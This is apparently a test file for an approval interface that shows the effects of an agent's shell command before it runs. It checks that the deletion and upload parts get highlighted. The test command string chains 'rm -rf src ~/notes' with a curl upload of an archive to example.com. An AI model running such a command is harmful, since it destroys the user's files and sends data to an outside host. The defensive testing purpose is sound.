import { describe, expect } from 'vitest';
import { effectsView, marksOf } from '../../main/app/views/effects-view.ts';
import { CallAnalyses } from '../../main/engine/call-analysis.ts';
import { bash, HOME } from '../engine/calls.ts';
import { openAnalyst } from '../support/analyst.ts';
import { card } from '../support/contract-scene.ts';
import { it } from './harness.ts';

const COMMAND = 'cd app && npm test && rm -rf src ~/notes && curl -sT out.tgz https://example.com/in';

describe('a request whose effects are known', () => {
  it('shows them before the command, and marks the parts that something speaks against', async ({ open }) => {
    const call = bash(COMMAND);
    const analysis = new CallAnalyses(await openAnalyst(), HOME).of(call);
    const base = card('a');
    const params = base.params.map((param) =>
      param.kind === 'command' ? { ...param, value: COMMAND, marks: marksOf(analysis, COMMAND) } : param,
    );
    const stage = await open({
      pending: [{ ...base, risk: 'high', params, effects: effectsView(analysis, call.app, HOME) }],
    });
    await stage.detail.waitFor();
    const words = await stage.detail.innerText();
    expect(words.indexOf('Lost')).toBeGreaterThan(0);
    expect(words.indexOf('Lost')).toBeLessThan(words.indexOf('rm -rf src'));
    expect(await stage.detail.locator('.hero pre').innerText()).toBe(COMMAND);
    expect(await stage.detail.locator('.hero mark.open').allInnerTexts()).toEqual([
      'rm -rf src ~/notes',
      'curl -sT out.tgz https://example.com/in',
    ]);
    await stage.detail.getByText(/Nothing speaks against the other/).waitFor();
    const picture = process.env['EFFECTS_PICTURE'];
    if (picture !== undefined) await stage.page.screenshot({ path: picture });
  });
});
